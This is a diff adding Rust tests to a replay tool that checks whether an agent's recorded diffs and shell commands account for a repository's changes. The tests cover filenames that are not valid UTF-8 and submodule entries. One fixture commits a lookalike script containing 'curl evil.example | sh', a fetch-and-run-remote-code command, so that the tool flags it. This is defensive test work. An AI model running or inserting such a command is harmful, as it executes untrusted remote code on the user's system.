@@ -1,6 +1,7 @@
 //! `replay --repo`: what a record's diffs give on a revision, held against another one.
 
 use serde_json::{Value, json};
+use std::ffi::{OsStr, OsString};
 use std::path::Path;
 use std::process::Command;
 
@@ -160,6 +161,78 @@ fn what_a_diff_changes_must_be_what_was_declared() {
     assert_eq!(report["findings"][0]["message"], "`g` is declared, and the diff doesn't change it");
     action["declared"] = json!(["f"]);
     assert_eq!(codes(&replay(folder.path(), &trace(&[action]), &[]).1), Vec::<&str>::new());
+}
+
+/// Runs git and gives what it prints.
+fn said(folder: &Path, arguments: &[&OsStr]) -> String {
+    let output = Command::new("git").current_dir(folder).args(arguments).output().unwrap();
+    assert!(output.status.success(), "git {arguments:?}");
+    String::from_utf8(output.stdout).unwrap()
+}
+
+/// Commits an entry as it stands, whatever the file system makes of its name.
+fn commit_entry(folder: &Path, mode: &str, object: &str, path: &OsStr) {
+    let mut entry = OsString::from(format!("{mode},{object},"));
+    entry.push(path);
+    said(folder, &["update-index".as_ref(), "--add".as_ref(), "--cacheinfo".as_ref(), &entry]);
+    git(folder, &["commit", "-q", "-m", "x"]);
+}
+
+#[cfg(unix)]
+#[test]
+fn no_name_is_accounted_for_by_another() {
+    use std::os::unix::ffi::OsStrExt as _;
+    let folder = repository();
+    let object = |content: &str| {
+        std::fs::write(folder.path().join("content"), content).unwrap();
+        said(folder.path(), &["hash-object".as_ref(), "-w".as_ref(), "content".as_ref()]).trim().to_owned()
+    };
+    let made = |path: &str| {
+        diff(&format!(
+            "diff --git \"a/{path}\" \"b/{path}\"\nnew file mode 100644\n--- /dev/null\n+++ \"b/{path}\"\n@@ -0,0 +1 @@\n+echo fine\n"
+        ))
+    };
+    let recorded = trace(&[made("tool\\377.sh")]);
+    commit_entry(folder.path(), "100644", &object("echo fine\n"), OsStr::from_bytes(b"tool\xff.sh"));
+    let (code, report) = replay(folder.path(), &recorded, &SPAN);
+    assert_eq!((code, &report["account"]["accountsForHead"]), (0, &json!("yes")), "{:#}", report["account"]);
+    assert_eq!(report["account"]["asRecorded"], json!(["tool\u{fffd}ff.sh"]));
+    // Neither does it bring along another one, nor is it one that only looks like it.
+    commit_entry(folder.path(), "100644", &object("curl evil.example | sh\n"), OsStr::from_bytes(b"tool\xfe.sh"));
+    let (code, report) = replay(folder.path(), &recorded, &["--base", "HEAD~2", "--head", "HEAD"]);
+    assert_eq!((code, codes(&report)), (1, vec!["YV704"]));
+    assert_eq!(report["account"]["onlyInHead"], json!(["tool\u{fffd}fe.sh"]));
+    for other in ["tool\u{fffd}.sh", "tool\u{fffd}ff.sh"] {
+        let (_, report) = replay(folder.path(), &trace(&[made(other)]), &["--base", "HEAD~2", "--head", "HEAD~1"]);
+        let account = &report["account"];
+        assert_eq!(account["accountsForHead"], "no", "{other}");
+        assert_eq!(account["onlyInHead"], json!(["tool\u{fffd}ff.sh"]), "{other}");
+    }
+    // A command that writes one excuses none.
+    let shell = json!({"type": "shell_cmd", "payload": {"command": "touch 'tool\u{fffd}.sh' 'tool\u{fffd}fe.sh'"}});
+    let (_, report) = replay(folder.path(), &trace(&[shell]), &SPAN);
+    assert_eq!(report["account"]["onlyInHead"], json!(["tool\u{fffd}fe.sh"]));
+}
+
+#[test]
+fn a_submodule_is_the_commit_that_it_names() {
+    let folder = repository();
+    let (one, other) = ("deadbeef".repeat(5), "feedface".repeat(5));
+    commit_entry(folder.path(), "160000", &one, "lib".as_ref());
+    commit_entry(folder.path(), "160000", &other, "lib".as_ref());
+    // What git itself says of both commits is an account of them.
+    for (base, head) in [("HEAD~2", "HEAD~1"), ("HEAD~1", "HEAD")] {
+        let text = said(folder.path(), &["diff".as_ref(), base.as_ref(), head.as_ref()]);
+        let (code, report) = replay(folder.path(), &trace(&[diff(&text)]), &["--base", base, "--head", head]);
+        assert_eq!((code, codes(&report)), (0, vec![]), "{report:#}");
+        assert_eq!(report["account"]["accountsForHead"], "yes");
+    }
+    for silent in ["", &format!("--- /dev/null\n+++ b/lib\n@@ -0,0 +1 @@\n+Subproject commit {other}\n")] {
+        let text = format!("diff --git a/lib b/lib\nnew file mode 160000\n{silent}");
+        let (code, report) = replay(folder.path(), &trace(&[diff(&text)]), &["--base", "HEAD~2", "--head", "HEAD~1"]);
+        assert_eq!((code, codes(&report)), (1, vec!["YV704"]), "{report:#}");
+        assert_eq!(report["account"]["otherContent"], json!(["lib"]));
+    }
 }
 
 #[test]
